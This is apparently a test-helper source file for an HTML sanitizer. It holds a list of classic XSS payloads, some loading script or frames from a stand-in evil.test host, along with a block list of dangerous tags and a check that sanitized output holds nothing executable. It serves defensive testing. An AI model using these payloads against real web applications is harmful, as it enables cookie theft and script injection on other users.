import { Window } from "happy-dom";
import { expect } from "vitest";

/**
 * Classic XSS payloads in the style of the OWASP XSS Filter Evasion Cheat Sheet and the PortSwigger
 * XSS cheat sheet: script tags, event handlers, javascript:/vbscript:/data: URLs with entity,
 * whitespace and case tricks, foreign frames, plugins, CSS expressions, SVG/MathML namespace
 * confusion and mutation (mXSS) shapes.
 */
export const XSS_PAYLOADS: readonly string[] = [
  "<script>alert('XSS')</script>",
  "<SCRIPT SRC=https://evil.test/xss.js></SCRIPT>",
  "<script/xss src=https://evil.test/xss.js></script>",
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<IMG SRC=\"javascript:alert('XSS');\">",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
  "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
  "<IMG SRC=\"jav\tascript:alert('XSS');\">",
  "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
  "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
  "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
  '<img src=x onerror="alert(1)">',
  "<img src=x onerror=alert(1)//",
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src="https://ok.test/a.png" onload=alert(1) ONMOUSEOVER="alert(2)">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">tab</a>',
  '<a href="jav&#9;ascript:alert(1)">tab2</a>',
  '<a href="&#x6A;avascript:alert(1)">entity</a>',
  '<a href="  javascript:alert(1)">space</a>',
  '<a href="JAVASCRIPT:alert(1)">case</a>',
  '<a href="java\0script:alert(1)">null</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<a href="//evil.test/">protocol relative</a>',
  '<a href="https://ok.test" onclick="alert(1)" target="_blank">handler</a>',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  '<math href="javascript:alert(1)">CLICKME</math>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<iframe src="https://evil.test/"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com.evil.test/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com/embed/x" onload="alert(1)"></iframe>',
  '<object data="https://evil.test/x.swf" type="application/x-shockwave-flash"></object>',
  '<embed src="https://evil.test/x.swf">',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
  "<DIV STYLE=\"width: expression(alert('XSS'));\">",
  "<STYLE>@import'https://evil.test/xss.css';</STYLE>",
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  "<BASE HREF=\"javascript:alert('XSS');//\">",
  '<BODY ONLOAD=alert("XSS")>',
  '<body background="javascript:alert(1)">',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><TD BACKGROUND="javascript:alert(1)">x</TD></TABLE>',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">go</button><input type="image" src="x" onerror="alert(3)"></form>',
  "<details open ontoggle=alert(1)>",
  '<video><source onerror="alert(1)"></video>',
  "<audio src=x onerror=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<input autofocus onfocus=alert(1)>",
  "<isindex type=image src=1 onerror=alert(1)>",
  "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
  '<p style="x:expr/**/ession(alert(1))" onmouseover="alert(1)">styled</p>',
  '<blockquote cite="javascript:alert(1)">quote</blockquote>',
  '<a href="https://ok.test"\nonmouseover=alert(1)>newline handler</a>',
  '<img src="https://ok.test/a.png"/onerror=alert(1)>',
  "<template><script>alert(1)</script></template>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  "<![CDATA[<script>alert(1)</script>]]>",
  '"><script>alert(document.cookie)</script>',
  "';alert(String.fromCharCode(88,83,83))//';alert(String.fromCharCode(88,83,83))//\";alert(String.fromCharCode(88,83,83))//--></SCRIPT>\">'><SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>",
];

const URL_ATTRIBUTES = [
  "href",
  "src",
  "action",
  "formaction",
  "xlink:href",
  "background",
  "cite",
  "data",
  "poster",
  "srcdoc",
  "lowsrc",
  "dynsrc",
];
const FORBIDDEN_TAGS = [
  "script",
  "style",
  "object",
  "embed",
  "base",
  "link",
  "meta",
  "form",
  "input",
  "button",
  "svg",
  "math",
  "template",
  "frame",
  "frameset",
  "applet",
  "noscript",
];

/** Trims what browsers ignore in a URL before its scheme (controls, whitespace, case). */
// biome-ignore lint/suspicious/noControlCharactersInRegex: stripping them is the point
const scheme = (url: string) => url.replace(/[\u0000-\u0020]/g, "").toLowerCase();

/**
 * Parses the HTML as a browser would and fails on anything that could run: executable tags, event
 * handlers, styles, script URLs in any URL attribute, frames other than YouTube/Vimeo players, and
 * links opening a new tab without noopener.
 */
export function expectNothingExecutable(html: string, allowedEmbedHosts: readonly string[]) {
  expect(html.toLowerCase()).not.toContain("<script");
  const document = new new Window().DOMParser().parseFromString(`<body>${html}</body>`, "text/html");
  // The body too: a payload's <body onload> lands on it.
  for (const element of [document.body, ...document.body.querySelectorAll("*")]) {
    const tag = element.tagName.toLowerCase();
    if (element !== document.body) expect(FORBIDDEN_TAGS, `<${tag}> in ${html}`).not.toContain(tag);
    for (const { name, value } of element.attributes) {
      expect(name.toLowerCase().startsWith("on"), `${name} on <${tag}> in ${html}`).toBe(false);
      expect(name.toLowerCase(), `style on <${tag}> in ${html}`).not.toBe("style");
      if (URL_ATTRIBUTES.includes(name.toLowerCase())) {
        expect(scheme(value ?? ""), `${name}=${value} in ${html}`).not.toMatch(
          /^(javascript|vbscript|data):|^\/\//,
        );
      }
    }
    if (tag === "iframe") {
      const src = element.getAttribute("src") ?? "";
      expect(allowedEmbedHosts, `frame ${src} in ${html}`).toContain(new URL(src).hostname);
      expect(element.hasAttribute("srcdoc")).toBe(false);
    }
    if (tag === "a" && element.getAttribute("target") === "_blank") {
      expect(element.getAttribute("rel")).toBe("noopener noreferrer");
    }
  }
}
